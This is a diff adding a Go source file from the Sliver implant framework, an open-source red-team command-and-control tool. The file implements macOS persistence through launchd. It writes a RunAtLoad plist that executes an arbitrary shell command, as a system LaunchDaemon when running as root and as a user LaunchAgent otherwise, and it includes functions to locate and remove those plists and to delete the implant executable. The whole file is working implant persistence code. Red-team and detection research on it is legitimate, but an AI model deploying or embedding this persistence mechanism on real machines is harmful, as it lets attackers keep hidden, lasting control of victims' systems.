@@ -0,0 +1,128 @@
+// +build darwin
+
+package persist
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"fmt"
+	"html"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+const (
+	launchdPlist = `<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
+<plist version="1.0">
+<dict>
+	<key>Label</key>
+	<string>%s</string>
+	<key>ProgramArguments</key>
+	<array>
+		<string>/bin/sh</string>
+		<string>-c</string>
+		<string>%s</string>
+	</array>
+	<key>RunAtLoad</key>
+	<true/>
+</dict>
+</plist>
+`
+)
+
+var (
+	techniques = map[string]technique{
+		"launchd": {install: installLaunchd, remove: removeLaunchd, find: findLaunchd},
+	}
+)
+
+// launchdPath - Root installs a daemon, anyone else a per-user agent
+func launchdPath(name string) (string, error) {
+	if os.Geteuid() == 0 {
+		return filepath.Join("/Library/LaunchDaemons", name+".plist"), nil
+	}
+	home, err := os.UserHomeDir()
+	if err != nil {
+		return "", err
+	}
+	return filepath.Join(home, "Library", "LaunchAgents", name+".plist"), nil
+}
+
+// installLaunchd - The plist is picked up at the next boot/login, it is not
+// loaded now so we don't start a second implant
+func installLaunchd(name string, command string) (*sliverpb.PersistRecipe, error) {
+	plistPath, err := launchdPath(name)
+	if err != nil {
+		return nil, err
+	}
+	err = os.MkdirAll(filepath.Dir(plistPath), 0755)
+	if err != nil {
+		return nil, err
+	}
+	plist := fmt.Sprintf(launchdPlist, html.EscapeString(name), html.EscapeString(command))
+	err = ioutil.WriteFile(plistPath, []byte(plist), 0644)
+	if err != nil {
+		return nil, err
+	}
+	return &sliverpb.PersistRecipe{
+		Path: plistPath,
+		Cleanup: []string{
+			fmt.Sprintf("launchctl unload '%s'", plistPath),
+			fmt.Sprintf("rm '%s'", plistPath),
+		},
+	}, nil
+}
+
+func removeLaunchd(recipe *sliverpb.PersistRecipe) error {
+	// Fails if the plist was never loaded, which is fine
+	run(exec.Command("launchctl", "unload", recipe.Path))
+	return os.Remove(recipe.Path)
+}
+
+// findLaunchd - Plists in our launchd directory that start executable
+func findLaunchd(executable string) []*sliverpb.PersistRecipe {
+	recipes := []*sliverpb.PersistRecipe{}
+	dirPath, err := launchdPath("")
+	if err != nil {
+		return recipes
+	}
+	plists, _ := filepath.Glob(filepath.Join(filepath.Dir(dirPath), "*.plist"))
+	for _, plistPath := range plists {
+		data, err := ioutil.ReadFile(plistPath)
+		if err != nil || !strings.Contains(string(data), html.EscapeString(executable)) {
+			continue
+		}
+		recipes = append(recipes, &sliverpb.PersistRecipe{
+			Name: strings.TrimSuffix(filepath.Base(plistPath), ".plist"),
+			Path: plistPath,
+		})
+	}
+	return recipes
+}
+
+// removeExecutable - A running executable can be unlinked on unix
+func removeExecutable(executable string) error {
+	return os.Remove(executable)
+}